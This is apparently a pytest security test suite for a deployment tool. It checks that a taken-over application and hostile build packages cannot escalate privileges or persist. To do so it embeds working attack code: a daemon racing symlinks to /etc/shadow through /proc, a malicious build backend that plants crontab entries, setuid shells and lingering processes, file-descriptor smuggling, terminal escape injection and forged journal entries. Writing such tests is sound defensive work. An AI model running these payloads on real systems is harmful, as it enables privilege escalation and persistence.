"""An application that was taken over, and a project whose packages are hostile, against root and the application beside."""

from __future__ import annotations

import base64
import concurrent.futures
import shlex
import shutil

import pytest
from play import PROJECT, Play, wait_until
from terminal import Terminal

RAIDER = PROJECT / "molecule/walls/raider"
DEPLOY = "../molecule/walls/deploy"

# The beginning of programs that go on after the request that started them.
DAEMON = """
import os, sys, time
if os.fork():
    os._exit(0)
os.setsid()
null = os.open("/dev/null", os.O_RDWR)
for number in (0, 1, 2):
    os.dup2(null, number)
"""


@pytest.fixture
def source(tmp_path):
    """The raider's project, to be made worse."""
    shutil.copytree(RAIDER, tmp_path / "raider")
    return tmp_path / "raider"


def deploy(hosts, source=None, **changes):
    sources = {"raider": dict.fromkeys(hosts, str(source))} if source else {}
    return Play(DEPLOY, sources=sources, changes={"raider": changes}, asgi_only=["raider"], asgi_force=True)


def live(host, application="raider"):
    return host.check_output(f"basename $(readlink /srv/{application}/live)")


INTRUDER = (
    DAEMON
    + """
# Whatever a process of a deploy may write, its user can find through that process: /proc/PID/root is its view of the file system.
report = os.open("/var/lib/asgi-raider/intruder", os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
os.write(report, b"%12d\\n" % 0)
end, looks, known = time.time() + 300, 0, set()
while time.time() < end and not os.path.exists("/var/lib/asgi-raider/enough"):
    looks += 1
    os.pwrite(report, b"%12d\\n" % looks, 0)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        place = f"/proc/{pid}/root/srv/raider/releases"
        try:
            releases = os.listdir(place)
        except OSError:
            try:
                # The working directory tells the release where it cannot be listed.
                releases = [os.readlink(f"/proc/{pid}/cwd").split("/")[4]]
            except (OSError, IndexError):
                continue
        for release in releases:
            for name in ("static", "code", "venv"):
                handle = -1
                try:
                    handle = os.open(f"{place}/{release}/{name}", os.O_RDONLY | os.O_DIRECTORY)
                    os.close(os.open("intruder.txt", os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=handle))
                    if (release, name) not in known:
                        known.add((release, name))
                        os.write(report, f"was in {name} of {release}\\n".encode())
                        # From here on root walks among files that are being swapped for links.
                        if os.fork() == 0:
                            while time.time() < end and not os.path.exists("/var/lib/asgi-raider/enough"):
                                os.symlink("/etc/shadow", "link", dir_fd=handle)
                                os.rename("link", "intruder.txt", src_dir_fd=handle, dst_dir_fd=handle)
                                os.close(os.open("file", os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=handle))
                                os.rename("file", "intruder.txt", src_dir_fd=handle, dst_dir_fd=handle)
                            os._exit(0)
                except OSError:
                    pass
                if handle >= 0:
                    os.close(handle)
"""
)


def test_the_live_application_cannot_get_at_the_next_release(hosts, raid, source):
    """A1, A2: it looks into every process that it can see, all through a deploy."""
    for host in hosts.values():
        host.check_output("rm -f /var/lib/asgi-raider/enough /var/lib/asgi-raider/intruder")
        raid(host, INTRUDER)
        wait_until(lambda host=host: host.file("/var/lib/asgi-raider/intruder").exists)
    # Another package, so that there is a venv to be made.
    (source / "requirements.txt").open("a").write("sniffio==1.3.1\n")
    try:
        deploy(hosts, source).succeed()
    finally:
        for host in hosts.values():
            host.check_output("touch /var/lib/asgi-raider/enough")
    for name, host in hosts.items():
        looks, *found = host.file("/var/lib/asgi-raider/intruder").content_string.splitlines()
        assert int(looks) > 20, "the intruder looked around"
        assert found == [], name
        assert host.run("grep -rs root: /srv/raider/static /srv/raider/releases/*/static").stdout == ""


EVIL_BACKEND = """
import os, sys, time, zipfile

def get_requires_for_build_wheel(config_settings=None):
    return []

def build_wheel(directory, config_settings=None, metadata_directory=None):
    deeds()
    name = "evil-1.0-py3-none-any.whl"
    with zipfile.ZipFile(f"{directory}/{name}", "w") as wheel:
        wheel.writestr("evil.py", "")
        wheel.writestr("evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\\nName: evil\\nVersion: 1.0\\n")
        wheel.writestr("evil-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n")
        wheel.writestr("evil-1.0.dist-info/RECORD", "")
    return name
"""
DEEDS = """
def deeds():
    import subprocess
    said = [f"uid {os.getuid()}"]
    try:
        open("/var/lib/asgi-raider/evil", "w")
    except OSError:
        pass
    code = os.getcwd()
    while not os.path.exists(f"{code}/manage.me"):
        code = os.path.dirname(code)
        if code == "/":
            code = os.environ.get("VIRTUAL_ENV", "") + "/../code"
            break
    handle = os.open(f"{code}/raider/urls.py", os.O_WRONLY | os.O_APPEND)
    crontab = subprocess.run(["crontab", "-"], input=b"* * * * * true\\n", capture_output=True)
    said.append(f"crontab {crontab.returncode}")
    for path in ("/var/cache/asgi-raider/evil", "/srv/raider/static/evil", "/run/asgi-raider/evil"):
        try:
            open(path, "w").write("evil")
            said.append(f"wrote {path}")
        except OSError:
            pass
    try:
        open(f"{code}/shell", "w").write("#!/bin/sh\\nid\\n")
        os.chmod(f"{code}/shell", 0o6755)
        said.append("made a program for its own rights")
    except OSError:
        pass
    open(os.path.expanduser("~/evil-deeds"), "w").write("\\n".join(said))
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            null = os.open("/dev/null", os.O_RDWR)
            for number in (0, 1, 2):
                os.dup2(null, number)
            for _ in range(1200):
                time.sleep(0.1)
                os.write(handle, b"# evil was here\\n")
        os._exit(0)
"""


def hostile(source, deeds):
    """The raider's project gets a package whose build does deeds."""
    package = source / "evil"
    package.mkdir()
    (source / "manage.me").touch()
    (package / "backend.py").write_text(EVIL_BACKEND + deeds)
    (package / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evil"\nversion = "1.0"\n'
    )
    (source / "requirements.txt").open("a").write("./evil\n")


def test_what_a_build_starts_ends_with_it(hosts, source):
    """A2: a package's build leaves a process, a handle, a crontab entry and a program with more rights: nothing of it is left."""
    hostile(source, DEEDS)
    deploy(hosts, source).succeed()
    for name, host in hosts.items():
        said = host.check_output("cat /var/cache/asgi-raider*/evil-deeds").splitlines()
        assert said[0] not in ("uid 0", f"uid {host.check_output('id -u raider')}"), (name, said)
        assert [line for line in said[1:] if line != "crontab 1" and line != "crontab 127"] == [], (name, said)
        assert host.run("pgrep -u raider-build").stdout == "", name
        assert not host.file("/var/lib/asgi-raider/evil").exists, name
        assert host.run("ls /var/spool/cron/crontabs/raider /var/spool/cron/crontabs/raider-build").stdout == "", name
        size = "stat -Lc %s /srv/raider/live/code/raider/urls.py"
        assert host.check_output(size) == host.check_output(f"sleep 1; {size}"), name
        assert (
            host.check_output(
                "find /srv/raider -perm /6000 ! -name media -printf '%p ' -o -type b -o -type c -o -type p"
            )
            == ""
        )


# Waits for handles, then for the moment at which the release is sealed and live, and writes wherever they lead.
KEEPER = """
import os, socket, stat, time
listener = socket.socket(socket.AF_UNIX)
listener.bind("\\0raider-handles")
listener.listen()
listener.settimeout(1)
open("/var/lib/asgi-raider/listening", "w")
handles, end = [], time.time() + 200
while time.time() < end and not os.path.exists("/var/lib/asgi-raider/go"):
    try:
        carrier, _ = listener.accept()
        handles += socket.recv_fds(carrier, 1, 16)[1]
    except OSError:
        pass
print(len(handles), "handles")
for handle in handles:
    try:
        if stat.S_ISDIR(os.fstat(handle).st_mode):
            os.close(os.open("from-outside", os.O_WRONLY | os.O_CREAT, 0o666, dir_fd=handle))
        else:
            os.write(handle, b"# from-outside\\n")
    except OSError:
        pass
"""
SENDER = """
def hand_over(*handles):
    import socket
    with socket.socket(socket.AF_UNIX) as carrier:
        carrier.connect("\\0raider-handles")
        socket.send_fds(carrier, [b"x"], handles)
"""


def test_a_handle_that_a_build_gives_away_leads_nowhere(hosts, raid, source):
    """A2: hostile code in a build and in collectstatic hands open files and directories to the live application."""
    package = source / "giver"
    package.mkdir()
    (package / "pyproject.toml").write_text(
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
        '[project]\nname = "evil"\nversion = "1.0"\n'
    )
    deeds = """
    code = os.path.dirname(os.getcwd())
    venv = os.path.join(os.path.dirname(code), "venv")
    file = os.open(f"{code}/raider/urls.py", os.O_WRONLY | os.O_APPEND)
    hand_over(os.open(code, os.O_RDONLY), os.open(f"{code}/raider", os.O_RDONLY), file, os.open(venv, os.O_RDONLY))
"""
    (package / "backend.py").write_text(EVIL_BACKEND + "def deeds():" + deeds + SENDER)
    (source / "requirements.txt").open("a").write("./giver\n")
    with (source / "raider/settings.py").open("a") as stream:
        stream.write(
            "import sys\n" + SENDER + "if 'collectstatic' in sys.argv:\n"
            "    hand_over(os.open(os.environ['STATIC_ROOT'], os.O_RDONLY), 1)\n"
        )
    for host in hosts.values():
        host.check_output("rm -f /var/lib/asgi-raider/go /var/lib/asgi-raider/listening")
    with concurrent.futures.ThreadPoolExecutor() as pool:
        answers = {name: pool.submit(raid, host, KEEPER, seconds=220) for name, host in hosts.items()}
        for host in hosts.values():
            wait_until(lambda host=host: host.file("/var/lib/asgi-raider/listening").exists)
        try:
            # The instance that listens is not told to end before it has answered.
            deploy(hosts, source, drain_timeout=120).succeed()
        finally:
            for host in hosts.values():
                host.check_output("touch /var/lib/asgi-raider/go")
    for name, host in hosts.items():
        # The last one is the pipe that the deploy itself reads: it does not wait until that is closed.
        assert answers[name].result() == "6 handles", name
        assert host.check_output("find /srv/raider -name from-outside") == "", name
        assert host.run("grep -rs from-outside /srv/raider").stdout == "", name


# Waits for descriptors that somebody gives away, and keeps them.
RECEIVER = (
    """
import socket, time
door = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
for _ in range(100):
    try:
        door.bind("\\0door-of-the-raider")
        break
    except OSError:  # the one before, in an instance that ends
        time.sleep(0.2)
door.listen(8)
door.settimeout(0.2)
"""
    + DAEMON
    + """
report = open("/var/lib/asgi-raider/received", "w", buffering=1)
kept, end = [], time.time() + 120
while time.time() < end and not os.path.exists("/var/lib/asgi-raider/enough"):
    try:
        visitor, _ = door.accept()
        what, numbers, _, _ = socket.recv_fds(visitor, 100, 1)
        kept += numbers
        print("got", what.decode(), file=report)
    except OSError:
        pass
"""
)
GIVE = """
def give(what, number):
    import socket
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as way:
            way.connect("\\0door-of-the-raider")
            socket.send_fds(way, [what], [number])
    except OSError:
        pass
"""


@pytest.fixture
def received(hosts, raid):
    """The live application takes what it is given; what it has got and done."""
    for host in hosts.values():
        host.check_output("rm -f /var/lib/asgi-raider/enough /var/lib/asgi-raider/received")
        raid(host, RECEIVER)
        wait_until(lambda host=host: host.file("/var/lib/asgi-raider/received").exists)
    yield lambda host: host.file("/var/lib/asgi-raider/received").content_string.splitlines()
    for host in hosts.values():
        host.check_output("touch /var/lib/asgi-raider/enough")


def test_a_command_by_hand_gives_no_terminal_away(hosts, received):
    """Who had the terminal of the person who typed the command could read the next password there."""
    code = GIVE + "import os\nfor number in (0, 1, 2): give(b'terminal' if os.isatty(number) else b'pipe', number)\n"
    for name, host in hosts.items():
        command = f"raider-manage shell --no-imports --command {shlex.quote(code)}"
        with Terminal(host, "sh", "-c", f"{command} >/root/said; echo it ended with $?") as terminal:
            terminal.until("it ended with 0", 30)
        assert {*received(host)} == {"got pipe"}, name


def test_directories_in_one_another_do_not_break_the_deploys_to_come(hosts, source):
    """Python walks no deeper than a thousand of them: what was once there could not be removed, and each deploy fell over it."""
    hostile(
        source,
        "def deeds():\n"
        + "    while not os.path.exists('manage.me'):\n"
        + "        os.chdir('..')\n"
        + "    for _ in range(3000):\n"
        + "        os.mkdir('d')\n"
        + "        os.chdir('d')\n",
    )
    run = deploy(hosts, source).fail()
    for name, host in hosts.items():
        assert "what was built cannot be copied" in run.message(name)
        assert host.file("/srv/raider/deploy.lock").content_string == ""
        assert host.check_output("find /srv/raider/releases -maxdepth 3 -path '*/code/d'") == ""


def test_the_running_application_shares_nothing_with_its_builds(hosts, raid):
    """A2: nothing that it may write is read by a build, and a build's own places are closed to it."""
    code = """
import os
for directory in ("/var/cache/asgi-raider", "/var/cache/asgi-raider-build", "/srv/raider", "/srv/raider/static"):
    try:
        os.listdir(directory)
        print("listed", directory)
    except OSError:
        pass
    try:
        open(f"{directory}/x", "w")
        print("wrote in", directory)
    except OSError:
        pass
print("looked")
"""
    for host in hosts.values():
        assert raid(host, code) == "looked"


def test_applications_do_not_read_each_other(hosts, as_user):
    """A5: code, venv, lock, logs, records, static files and uploads, read by the user of the application beside."""
    for name, host in hosts.items():
        release = live(host)
        # What is looked for is there.
        for path in (
            "code/raider/settings.py",
            "venv/pyvenv.cfg",
            "release.json",
            "env",
            "gate.json",
            "lib/vivarium_gate.json",
        ):
            assert host.file(f"/srv/raider/releases/{release}/{path}").exists, path
        look = f"find /srv/raider /srv/raider/releases/{release} /srv/raider/releases/{release}/* -type f -readable 2>/dev/null"
        assert as_user(host, look, "prey").stdout == "", name
        for path in (
            "deploy.lock",
            "deploys.log",
            f"releases/{release}/code/raider/settings.py",
            f"releases/{release}/env",
        ):
            assert as_user(host, f"cat /srv/raider/{path}", "prey").rc != 0, (name, path)
        assert as_user(host, f"cat /srv/raider/releases/{release}/code/raider/settings.py", "raider").rc == 0


def test_memory_and_locks_are_not_shared(hosts, raid):
    """A5: /dev/shm, /run/lock and System V memory of the application are its own."""
    code = """
import ctypes, os, fcntl
open("/dev/shm/of-the-raider", "w").write("x")
libc = ctypes.CDLL(None)
print("segment", libc.shmget(0x7261, 4096, 0o1666) >= 0)
for path in ("/run/lock/of-the-raider", "/run/lock/apt"):
    try:
        os.close(os.open(path, os.O_CREAT | os.O_RDWR, 0o666))
        print("opened", path)
    except OSError:
        pass
"""
    for host in hosts.values():
        host.check_output("touch /run/lock/apt; chmod 666 /run/lock/apt")
        assert raid(host, code) == "segment True"
        assert not host.file("/dev/shm/of-the-raider").exists
        assert "0x00007261" not in host.check_output("ipcs -m")


HOLDER = (
    DAEMON
    + """
import fcntl, glob
held = []
places = ("/srv/raider/deploy.lock", "/srv/raider", "/srv/raider/releases", "/usr/local/lib/asgi", *glob.glob("/srv/raider/*"))
for path in places:
    try:
        handle = os.open(path, os.O_RDONLY)
        fcntl.flock(handle, fcntl.LOCK_EX | fcntl.LOCK_NB)
        held.append(path)
    except OSError:
        pass
open("/var/lib/asgi-raider/held", "w").write(" ".join(held) or "nothing")
for _ in range(1200):
    time.sleep(0.1)
    if os.path.exists("/var/lib/asgi-raider/let-go"):
        break
"""
)


def test_no_lock_of_a_deploy_is_within_reach(hosts, raid):
    """A4: the application locks whatever it can open, and a deploy goes on."""
    for host in hosts.values():
        host.check_output("rm -f /var/lib/asgi-raider/held /var/lib/asgi-raider/let-go")
        raid(host, HOLDER)
        wait_until(lambda host=host: host.file("/var/lib/asgi-raider/held").exists)
        held = host.file("/var/lib/asgi-raider/held").content_string.split()
        assert not [path for path in held if path.startswith("/srv")], held
    before = {name: live(host) for name, host in hosts.items()}
    try:
        deploy(hosts).succeed()
    finally:
        for host in hosts.values():
            host.check_output("touch /var/lib/asgi-raider/let-go")
    assert all(live(host) != before[name] for name, host in hosts.items())


def test_an_interpreter_of_the_application_is_not_roots_to_start(hosts):
    """A7: `python` names a program that the application can write."""
    for host in hosts.values():
        host.check_output("rm -f /var/lib/asgi-raider/ran-as")
        host.check_output(
            "printf '#!/bin/sh\\nid -un >>/var/lib/asgi-raider/ran-as\\n' >/var/lib/asgi-raider/py;"
            " chmod 755 /var/lib/asgi-raider/py"
        )
    deploy(hosts, python="/var/lib/asgi-raider/py").fail()
    for host in hosts.values():
        assert host.run("cat /var/lib/asgi-raider/ran-as").stdout == ""
        host.check_output("rm /var/lib/asgi-raider/py")


@pytest.mark.parametrize("trap", ["sparse", "outside", "pipe"])
def test_files_of_a_project_are_read_with_care(hosts, source, trap):
    """A7: a lock file that is huge, one that is a link out of the code, and a pipe among the static files."""
    if trap == "sparse":
        with (source / "uv.lock").open("wb") as stream:
            stream.truncate(64 * 1024 * 1024)
    elif trap == "outside":
        (source / "uv.lock").symlink_to("/proc/kcore")
    else:
        with (source / "raider/settings.py").open("a") as stream:
            stream.write(
                "import sys\n"
                "if 'collectstatic' in sys.argv:\n"
                "    import atexit\n"
                "    manifest = os.environ['STATIC_ROOT'] + '/staticfiles.json'\n"
                "    atexit.register(lambda: (os.remove(manifest), os.mkfifo(manifest)))\n"
            )
    before = {name: live(host) for name, host in hosts.items()}
    run = deploy(hosts, source).fail()
    for name, host in hosts.items():
        assert (
            "staticfiles.json is neither" in run.message(name)
            if trap == "pipe"
            else "uv.lock cannot be used" in run.message(name)
        )
        assert live(host) == before[name]
        assert host.file("/srv/raider/deploy.lock").content_string == ""


def test_what_an_application_prints_is_text_to_the_operator(hosts, source):
    """A8: a step that fails and prints what terminals obey, and bytes that are no text."""
    (source / "shout.py").write_text(
        "import os, sys\nos.write(1, b'\\x1b]0;owned\\x07\\x1b[2J\\x9b2J caf\\xe9 shouted \\xff\\n')\nsys.exit(1)\n"
    )
    run = deploy(hosts, source, hooks={"before_switch": ["python shout.py"]}).fail()
    assert "shouted" in run.output
    assert not {"\x1b", "\x07", "\x9b"} & set(run.output)


def test_a_bad_release_cannot_shout_the_drain_down(hosts, source):
    """A8: it dies after the switch, and its last words are no text: requests go back all the same."""
    (source / "dying.py").write_text(
        "import os, time\nos.write(1, b'\\xff\\xfe\\x1b[2J\\n')\ntime.sleep(3)\nos._exit(1)\n"
    )
    before = {name: live(host) for name, host in hosts.items()}
    run = deploy(hosts, source, processes={"dying": {"command": "python dying.py"}}, settle_time=20)
    run.succeed()
    for name, host in hosts.items():
        wait_until(lambda host=host, name=name: live(host) == before[name])
        assert "\x1b" not in host.file("/srv/raider/deploys.log").content_string


# Of a process's words the kernel says what the process says (PR_SET_MM_MAP in prctl(2)): here, 256 MiB of memory.
BOAST = """
import ctypes
libc = ctypes.CDLL(None)
libc.mmap.restype = libc.sbrk.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
size = 1 << 28
begin = libc.mmap(None, size, 3, 0x4022, -1, 0)
fields = [0, 0, 0, 0, *map(int, open("/proc/self/stat").read().rpartition(") ")[2].split()[1:])]
known = [fields[number] for number in (26, 27, 45, 46, 47)] + [libc.sbrk(0), fields[28]]
numbers = (ctypes.c_uint64 * 13)(*known, begin, *[begin + size] * 3, 0, 0xFFFFFFFF << 32)
libc.prctl(35, 14, ctypes.byref(numbers), ctypes.c_ulong(104), 0)
"""

FORGED_REPORT = """
import sys
if sys.argv[0].endswith("vivarium_gate.py"):
    import json
    reason = "\\ud800 half a letter"
    for _ in range(400):
        reason = [reason]
    message = {"id": "security.W004", "level": "INFO", "hint": "", "object": "", "message": "\\ud800"}
    said = [message | {"state": "waived", "reason": reason}, message | {"state": "failed", "message": "a\\nb\\ud800"}]
    report = {"passed": True, "fail_level": "ERROR", "text": "", "facts": {"debug": False}, "messages": said}
    print(json.dumps(report), flush=True)
    os._exit(0)
"""


def test_what_an_application_says_of_itself_costs_nobody_a_report(hosts, source):
    """Of its checks (what is no text, nested and of several lines), and of its command (that it is gigabytes)."""
    with open(source / "raider/settings.py", "a") as settings:
        settings.write(FORGED_REPORT)
    deploy(hosts, source).succeed()
    for host in hosts.values():
        ask = "curl --silent --insecure --resolve raider.example.test:443:127.0.0.1 https://raider.example.test"
        code = base64.b64encode(f"exec({BOAST!r}, dict())".encode()).decode()
        host.run(f"echo {code} | base64 -d | {ask}/hang --data-binary @-")
        main = host.check_output(f"systemctl show --property=MainPID --value raider@{live(host)}.service")
        assert int(host.check_output(f"wc -c < /proc/{main}/cmdline")) >= 2**28
    said = Play("status").succeed().output
    assert said.count("prey@") >= len(hosts) and "a b" in said
    deploy(hosts).succeed()


def test_words_of_an_application_are_not_taken_for_ours(hosts, raid):
    """A8: it forges an entry of the journal; _UID, which the journal itself sets, tells."""
    code = r"""
import socket
journal = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
journal.connect("/run/systemd/journal/socket")
journal.send(b"MESSAGE=deploy of release forged: good\nSYSLOG_IDENTIFIER=raider\nVIVARIUM_OUTCOME=good\nVIVARIUM_ACTION=forged\n")
print("sent")
"""
    for host in hosts.values():
        assert raid(host, code) == "sent"
        wait_until(lambda host=host: "forged" in host.run("journalctl -t raider VIVARIUM_ACTION=forged -o cat").stdout)
        assert host.run("journalctl --quiet -t raider _UID=0 VIVARIUM_ACTION=forged -o cat").stdout == ""
        assert host.run("journalctl --quiet -t raider _UID=0 VIVARIUM_OUTCOME=good -o cat").stdout != ""
